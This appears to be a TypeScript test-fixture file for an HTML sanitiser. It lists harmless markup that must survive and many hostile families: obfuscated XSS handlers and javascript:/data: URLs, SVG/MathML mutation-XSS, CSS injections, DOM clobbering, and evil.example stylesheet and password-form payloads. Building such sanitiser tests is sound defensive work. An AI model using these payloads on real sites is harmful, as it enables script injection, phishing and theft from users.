// Markup for the sanitiser's tests: texts that must pass untouched, payloads that must not, and a grammar for
// hostile nonsense. Payloads are families (what runs) times carriers (what it rides on), written for this project.

/** Rich texts that lose nothing: an empty report and the same text. */
export const HARMLESS_MARKUP: Record<string, string> = {
  plain: "Pump 3 is back. No action needed.",
  comparison: "a < b && c > d, and 5<6",
  operators: "if (x <= y && y >= z) { return x << 2; }",
  heart: "Thanks <3 for waiting <- really ->",
  empty_brackets: "List<> and Map< string > and a <> b",
  ampersands: "Fish & chips, R&D, AT&T; &c. & &; &#; &unknown; &amp;amp;",
  entities: "&lt;script&gt;alert(1)&lt;/script&gt; &copy; &euro; &hellip; &nbsp;x &#8364; &#x1F600; &NotEqualTilde;",
  legacy_entities: "&copy 2026 &notit; &lt b &gt",
  emoji: "All clear ✅ 👩‍👩‍👧‍👦 🏳️‍🌈 🇪🇺",
  accents: "Übergrößenträger, façade, naïve, Ωμέγα, Пример, Ǆ",
  combining: "e\u0301 a\u030a \u1100\u1161\u11a8",
  cjk: "警報：水位が上がっています。请注意安全。 한국어 경보",
  rtl: "<p dir=rtl>תחנה 4 פעילה שוב</p><p dir='rtl' lang=\"ar\">عاد القطار</p>",
  bidi: "<bdo dir=ltr>abc</bdo> <bdi>שלום</bdi>",
  unclosed_p: "<p>One<p>Two<p>Three",
  unclosed_li: "<ul><li>One<li>Two <b>bold</b><li>Three</ul>",
  upper: "<P>Loud <B>TEXT</B><BR>next</P>",
  mixed_case: "<StRoNg>x</sTrOnG>",
  unquoted: "<a href=https://example.org/a?b=1&c=2 title=Go>Go</a>",
  single_quotes: "<a href='https://example.org/' title='it \"works\"'>x</a>",
  link: '<a href="https://example.org/x#y" target="_blank" rel="noopener nofollow">docs</a>',
  upper_scheme: '<a href="HTTPS://EXAMPLE.org/">docs</a>',
  padded_link: '<a href=" https://example.org/ ">docs</a>',
  wrapped_link: '<a href="https://example.org/a/long\n/path">docs</a>',
  mail_and_tel: '<a href="mailto:ops@example.org?subject=Hi%20there">mail</a> <a href="tel:+49-30-123">call</a>',
  http_sms_and_geo:
    '<a href="http://example.org/harbour">old page</a> <a href="sms:+49301230">text us</a> <a ' +
    'href="geo:38.7,-9.1">map</a>',
  image: '<img src="https://example.org/a.png" alt="A pump" width=320 height="200" loading="lazy">',
  image_no_alt_text: '<img src="https://example.org/a.png" alt="">',
  void_slash: "one<br/>two<br />three<hr/>four<wbr>five",
  nested_lists: "<ol start=3 reversed type=a><li>a<ul><li>b<ol><li>c</li></ol></li></ul></li></ol>",
  definition: "<dl><dt>Term<dd>Meaning<dt>Other<dd>Thing</dl>",
  table:
    "<table border=1><caption>Levels</caption><colgroup><col span=2><col></colgroup><thead><tr><th " +
    'scope="col">A<th>B</thead>' +
    "<tbody><tr><td colspan=2>1</td></tr></tbody><tfoot><tr><td>2<td rowspan=2>3</table>",
  table_without_rows: "<table><td>1<td>2<tr><td>3</table>",
  nested_table: "<table><tr><td><table><tr><td>x</td></tr></table></td></tr></table>",
  headings: "<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>",
  sections:
    "<article><header>h</header><section><main>m</main><aside>a</aside></section>" +
    "<nav>n</nav><address>x</address><footer>f</footer></article>",
  figure: '<figure><img src="https://example.org/p.png" alt="x"><figcaption>cap</figcaption></figure>',
  quote: '<blockquote cite="https://example.org/q">said <q>this</q> and <cite>that</cite></blockquote>',
  code:
    "<pre><code>for (i = 0; i &lt; 3; i++) {\n  x[i] &= 1;\n}</code></pre><kbd>Ctrl</kbd>+<samp>out</samp> " +
    "<var>v</var>",
  marks: "<mark>m</mark><small>s</small><sub>2</sub><sup>3</sup><u>u</u><s>s</s><em>e</em><i>i</i><strong>x</strong>",
  edits: '<del datetime="2026-01-02">old</del><ins cite="https://example.org/">new</ins>',
  details: "<details open><summary>More</summary>Hidden <b>text</b></details>",
  ruby: "<ruby>漢<rp>(<rt>kan<rp>)</ruby>",
  time:
    '<time datetime="2026-03-01T12:00Z">noon</time> <abbr title="World Health Organization">WHO</abbr> ' +
    "<dfn>d</dfn>",
  style: '<p style="color:#c00; background-color: rgb(255, 240, 240); font-weight:bold; text-align:center">Red</p>',
  more_style:
    `<div style="margin:0 auto;padding:8px 12px;border:1px solid #ddd;` +
    `font-family:Arial, 'Open Sans', sans-serif">x</div>`,
  important_style: '<span style="COLOR:Red !important;">x</span>',
  class: '<span class="badge badge-ok">ok</span>',
  legacy: '<center><font color="red" size=+1 face="Arial, sans-serif">Old mail</font></center><big>b</big><tt>t</tt>',
  lang: '<p lang="de-CH" translate="no">Grüezi</p>',
  aria: '<div role="note" aria-label="Note">x</div><span aria-hidden="true">*</span>',
  misnested: "<b>bold <i>both</b> italic</i> plain",
  stray_ends: "x</p>y</b></div></br>z",
  comment_like_text: "a --> b <-- c, 1 &lt;!-- not a comment --&gt;",
  script_word: "The script tag and javascript: links are described here; onclick=alert(1) too.",
  quotes: `"double" 'single' \`back\` “curly” «g»`,
  line_ends: "one\r\ntwo\rthree\n\tfour",
  joiners: "می‌خواهم क्‍ष র‍্য ශ්‍රී 👩🏽‍💻 Do\u00adnau 葛\u{e0100}飾 ภาษา\u200bไทย",
  joiner_entities: "می&zwnj;خواهم क्&zwj;ष Do&shy;nau &rlm;(שלום)",
  control_entities: "&#128; &#0; &#xD800; &#x110000; &#9;",
  backslashes: "C:\\temp\\dir \\65 \\u003c",
  json: '{"a": [1, 2, {"b": "c < d"}], "e": null}',
  math: "x < y < z, a<1, 1>0, p -> q",
  url_text: "See https://example.org/?a=1&b=2&copy=3 now",
  long_word: "x".repeat(3000),
  deep_enough: `${"<div>".repeat(60)}deep${"</div>".repeat(60)}`,
  whitespace: "  leading, \u00a0nbsp, trailing  ",
};

/** Markup that may contain a comparison: to a browser it is a tag, and the sanitiser keeps its text. */
export const COMPARISON_PATTERN = /[\p{L}\p{N})\]_]<[a-z]/iu;

const CALLS = ["alert(1)", "confirm`1`", "window['al'+'ert'](1)", "(()=>{fired()})()"];

/** family → payloads. All of them carry something to remove; many of them run when nothing removes it. */
function families(): Record<string, string[]> {
  const js = "alert(1)";
  const handlers = (
    "onclick onmouseover onmouseenter onfocus onblur onkeydown oninput onload onerror ontoggle onanimationstart " +
    "onanimationend ontransitionend onpointerover onpointerdown onwheel oncopy onpaste oncontextmenu onscroll " +
    "ondblclick " +
    "onbeforetoggle onauxclick onsubmit ondragstart onselectstart onbeforeinput"
  ).split(" ");
  const carriers = ["div", "a", "b", "img", "p", "x-y", "input", "details"];
  const urls = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script&colon;alert&lpar;1&rpar;",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "&#0000106avascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*https://example.org/*/alert(1)",
    "\u200bjavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "view-source:javascript:alert(1)",
    "blob:https://example.org/1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:/evil.example",
    "https://bank.example@evil.example/",
    "file:///etc/passwd",
    "intent://x#Intent;scheme=http;end",
    "/relative",
    "?q=1",
  ];
  const styles = [
    "position:fixed;top:0;left:0",
    "position:absolute",
    "background:url(javascript:alert(1))",
    "background-image:url(https://evil.example/x)",
    "background:u\\72l(https://evil.example/x)",
    "width:expression(alert(1))",
    "width:exp/**/ression(alert(1))",
    "\\65xpression:x",
    "-moz-binding:url(https://evil.example/x.xml#x)",
    "behavior:url(x.htc)",
    "@import 'https://evil.example/x.css'",
    "color:red;}</style><script>alert(1)</script>",
    "--x:url(https://evil.example/)",
    "z-index:9999",
    "margin-top:-500px",
    "opacity:0",
    "display:none",
    "content:attr(x)",
    "font-family:'a;b:c",
    "color:var(--x)",
    "transform:scale(100)",
    "animation:x 1s",
    "color:red/**/;",
    "{color:red}",
    "pointer-events:none",
  ];
  const contexts = [
    "svg",
    "math",
    "noscript",
    "template",
    "title",
    "textarea",
    "style",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "select",
    "option",
  ];
  const img = "<img src=x onerror=alert(1)>";
  return {
    handlers: handlers.flatMap((handler, i) =>
      [0, 1].map((shift) => {
        const tag = carriers[(i + shift * 3) % carriers.length];
        return `<${tag} ${handler}="${CALLS[(i + shift) % CALLS.length]}" tabindex=1>x`;
      }),
    ),
    handler_spelling: [
      `<img src=x ONERROR=${js}>`,
      `<img/src=x/onerror=${js}>`,
      `<img\tsrc=x\nonerror=${js}>`,
      `<img\x0csrc=x\x0conerror=${js}>`,
      `<img src="x"onerror="${js}">`,
      `<img src=x onerror = '${js}'>`,
      "<img src=x onerror=&#97;lert(1)>",
      "<img src=x onerror=alert&lpar;1&rpar;>",
      `<img src=x a="" b='' onerror=${js} c>`,
      `<img src=x ${"a ".repeat(300)}onerror=${js}>`,
      `<img src='x' alt='a>b' onerror=${js}>`,
      `<image src=x onerror=${js}>`,
      `<img src=x onerror="${js}`.concat('">'),
      `<<img src=x onerror=${js}>`,
      `<img <img src=x onerror=${js}>`,
      `<a/onclick=${js}>x</a>`,
      `<b style="color:red" =x onclick=${js}>x</b>`,
      `<p title="&quot;><img" onclick=${js}>x</p>`,
    ],
    links: urls.map((url, i) => `<a href=${i % 2 ? `'${url}'` : `"${url}"`}>x</a>`),
    images: urls.slice(0, 24).map((url) => `<img src="${url}">`),
    citations: urls.slice(0, 6).map((url) => `<blockquote cite="${url}">x</blockquote>`),
    scripts: [
      `<script>${js}</script>`,
      `<ScRiPt>${js}</sCrIpT>`,
      `<script >${js}</script >`,
      `<script/x>${js}</script>`,
      `<script>${js}</script/x>`,
      `<script>${js}`,
      `<script src=data:,${js}></script>`,
      `<script type=module>${js}</script>`,
      `<scr<script>ipt>${js}</scr</script>ipt>`,
      `<script><!--\n${js}\n--></script>`,
      `<p><script>${js}</script></p>`,
      `<table><script>${js}</script></table>`,
      `<script>/*</script><script>*/${js}</script>`,
      `<select><script>${js}</script></select>`,
      `</p><script>${js}</script>`,
      `--><script>${js}</script>`,
      `]]><script>${js}</script>`,
      `</title><script>${js}</script>`,
      `</textarea><script>${js}</script>`,
      `<script\x00>${js}</script>`,
    ],
    svg: [
      `<svg onload=${js}>`,
      `<svg/onload=${js}//`.concat(">"),
      `<svg><script>${js}</script></svg>`,
      `<svg><script>${js.replace("(", "&lpar;").replace(")", "&rpar;")}</script></svg>`,
      `<svg><script href="data:,${js}"/></svg>`,
      `<svg><a href="javascript:${js}"><text y=20>x</text></a></svg>`,
      `<svg><a xlink:href="javascript:${js}"><rect width=9 height=9 /></a></svg>`,
      `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
      `<svg><set attributeName=href to="javascript:${js}"/></svg>`,
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>` +
        `<image href='x' onerror='${js}'/></svg>#x"/></svg>`,
      `<svg><foreignObject>${img}</foreignObject></svg>`,
      `<svg><desc>${img}</desc></svg>`,
      `<svg><title>${img}</title></svg>`,
      `<svg><p>${img}`,
      `<svg></p>${img}`,
      `<svg><font color=x>${img}`,
      `<svg><style>${img}</style></svg>`,
      `<svg><![CDATA[</svg>]]>${img}`,
      `<svg><image href=x onerror=${js}></svg>`,
    ],
    math: [
      `<math href="javascript:${js}">x</math>`,
      `<math><mtext>${img}</mtext></math>`,
      `<math><maction actiontype="statusline" xlink:href="javascript:${js}">x</maction></math>`,
      `<math><annotation-xml encoding="text/html">${img}</annotation-xml></math>`,
      `<math><mi//xlink:href="javascript:${js}">x`,
    ],
    embedders: [
      `<iframe src="javascript:${js}"></iframe>`,
      `<iframe srcdoc="<script>${js}</script>"></iframe>`,
      `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
      `<iframe onload=${js}></iframe>`,
      `<object data="javascript:${js}"></object>`,
      `<object data=x onerror=${js}></object>`,
      `<embed src="javascript:${js}">`,
      `<embed src=x onerror=${js}>`,
      `<frameset onload=${js}><frame src="javascript:${js}"></frameset>`,
      `<video src=x onerror=${js}></video>`,
      `<video><source onerror=${js} src=x></video>`,
      `<audio src=x onerror=${js}></audio>`,
      `<video poster=javascript:${js}//></video>`,
      `<picture><source srcset=x><img src=x onerror=${js}></picture>`,
      `<img srcset="x 1x" onerror=${js}>`,
      `<applet code=x>y</applet>`,
      `<portal src="javascript:${js}">`,
    ],
    page_level: [
      `<body onload=${js}>`,
      `<body onpageshow=${js}>`,
      `<html onclick=${js}>x`,
      `<base href="javascript:/a/-${js}///////"><a href=../b>x</a>`,
      '<base target="_top">',
      `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
      '<meta http-equiv="Content-Security-Policy" content="default-src *">',
      '<link rel=stylesheet href="https://evil.example/x.css">',
      `<link rel=import href="data:text/html,<script>${js}</script>">`,
      "<style>*{background:url(https://evil.example/)}</style>",
      "<style>@import 'https://evil.example/x.css';</style>",
      `<title><script>${js}</script></title>`,
      `<xml onreadystatechange=${js}><x/></xml>`,
      `<marquee onstart=${js}>x</marquee>`,
      `<dialog open onclick=${js}>x</dialog>`,
      `<bgsound src="javascript:${js}">`,
      `<isindex action="javascript:${js}" type=submit>`,
    ],
    forms: [
      `<form action="javascript:${js}"><button>x</button></form>`,
      `<form><button formaction="javascript:${js}">x</button></form>`,
      `<form><input type=submit formaction="javascript:${js}" value=x></form>`,
      `<input autofocus onfocus=${js}>`,
      `<select autofocus onfocus=${js}><option>x</select>`,
      `<textarea autofocus onfocus=${js}></textarea>`,
      `<button popovertarget=x onclick=${js}>x</button><div popover id=x onbeforetoggle=${js}>y</div>`,
      `<label onclick=${js}>x</label>`,
      `<keygen autofocus onfocus=${js}>`,
      '<form action="https://evil.example/"><input name=password></form>',
      `<form id=x></form><button form=x formaction="javascript:${js}">y</button>`,
    ],
    styles: styles.map((style) => `<p style="${style}">x</p>`),
    clobbering: [
      "<a id=config>x</a>",
      '<a id=config><a id=config name=url href="https://evil.example/">x</a>',
      "<img name=body>",
      "<form id=attributes><input name=attributes></form>",
      "<p id=__proto__>x</p>",
      "<a name=cookie>x</a>",
      '<iframe name=self srcdoc="<a id=x>"></iframe>',
      "<p __proto__=x constructor=y hasOwnProperty=z>x</p>",
    ],
    mutation: [
      ...contexts.flatMap((context) => [
        `<${context}><p title="</${context}>${img}">`,
        `<${context}>${img}</${context}>`,
        `<b><${context}></b>${img}`,
      ]),
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${img}">`,
      `<svg></p><style><a id="</style>${img}">`,
      `<svg><style><a title="</style>${img}">`,
      `<math><p></p><style><!--</style><a title="--&gt;&lt;/style&gt;${img
        .replace(/</g, "&lt;")
        .replace(/>/g, "&gt;")}">`,
      `<table><svg><style><!--</style>${img}`,
      `<noscript><style></noscript>${img}</style>`,
      `<noscript><!--</noscript>${img}-->`,
      `<svg><foreignObject><math><mi><style><a title="</style>${img}">`,
      `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src='x' onerror='${js}'>">`,
      `<xmp><p title="</xmp>${img}">`,
      `<listing>&lt;img src=x onerror=${js}&gt;</listing>${img}`,
      `<table><template><td>${img}</template></table>`,
      `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
      `<select><template><style><!--</template><a rel="--></style></template></select>${img}">`,
      `<div><div>${"<b>".repeat(40)}<table><a><table></table><a></table>${img}`,
      `<p>${"<b>".repeat(600)}<svg><style>${"</b>".repeat(600)}</style>${img}`,
      `${"<div>".repeat(510)}<table><svg><style><a title="</style>${img}">`,
      `<a href="https://e.example/"><table><a href="javascript:${js}">x</a></table></a>`,
      `<?xml version="1.0"?><x>${img}</x>`,
      `<plaintext>${img}`,
    ],
    comments: [
      `<!--${img}-->`,
      `<!-->${img}-->`,
      `<!--->${img}-->`,
      `<!-- --!>${img}-->`,
      `<!-- a -- b -->${img}`,
      `<!${img}>`,
      `<!-- ${img}`,
      `</ ${img}>`,
      `<? ${img} ?>`,
      `<% ${img} %>`,
      `<![CDATA[${img}]]>`,
      `<![CDATA[>${img}]]>`,
      `<!DOCTYPE x [<!ENTITY y "z">]>${img}`,
      `<!--[if IE]>${img}<![endif]-->`,
      `<comment>${img}</comment>`,
    ],
    malformed: [
      `<img src="x" onerror="${js}" `.concat("<p>"),
      `<div <div onclick=${js}>x`,
      `<a href="javascript:${js}"`.concat(" title='>'>x"),
      `<img src='x' onerror='${js}' "">`,
      `<img """><script>${js}</script>">`,
      `<a href=\`javascript:${js}\`>x</a>`,
      `<iframe/src="javascript:${js}"`.concat("><p>"),
      `<b a='"' b="'" onclick=${js}>x`,
      `<b>x</b onclick=${js}><i onclick=${js}>y`,
      `<x onclick=${js}>x</x>`,
      `<p\u00a0onclick=${js}>x</p><p onclick=${js}>y</p>`,
      `<lin\u212a onclick=${js}>x`,
      `<a href=https://x.example/ href=javascript:${js} onclick=${js}>x</a>`,
      `<ſcript>${js}</ſcript><ſvg onload=${js}>`,
    ],
  };
}

interface HostileMarkup {
  name: string;
  html: string;
}

export const HOSTILE_MARKUP: HostileMarkup[] = Object.entries(families()).flatMap(([family, payloads]) =>
  payloads.map((html, i) => ({ name: `${family} ${i}`, html })),
);

/** Pieces of hostile nonsense: any run of them is an input. */
export const FUZZ_PIECES: string[] = [
  ...(
    "p b i a div span table tr td th thead tbody caption col colgroup ul ol li dl dt dd h1 h2 pre br hr img details " +
    "summary " +
    "blockquote ruby rt rp font svg math style script title textarea noscript template select option iframe xmp " +
    "mtext mglyph mi " +
    "foreignObject desc annotation-xml form button input video object listing plaintext noembed center section " +
    "image x-y"
  )
    .split(" ")
    .flatMap((name) => [`<${name}>`, `</${name}>`, `<${name} `, `<${name}/>`]),
  ...(
    "< > / = \" ' ` & ; ! - -- --> <!-- <! <? ]]> <![CDATA[ </ &lt; &lt &#60; &#x3c; &amp &#0; &Tab; \0 \t \r \x0c " +
    "\x1b \u200b \ud800 \u212a 😀"
  ).split(" "),
  "\n",
  " ",
  "text",
  "onclick=alert(1) ",
  "onerror='alert(1)' ",
  'href="javascript:alert(1)" ',
  "href=https://example.org/ ",
  "src=https://example.org/a.png ",
  'src="data:,x" ',
  'style="color:red;position:fixed" ',
  "style='color:",
  'class="a b" ',
  'class="a ',
  'title="',
  'title="<b>" ',
  "id=x ",
  "rel=opener ",
  "encoding=text/html ",
  "colspan=2 ",
  "dir=rtl ",
  "__proto__=x ",
];
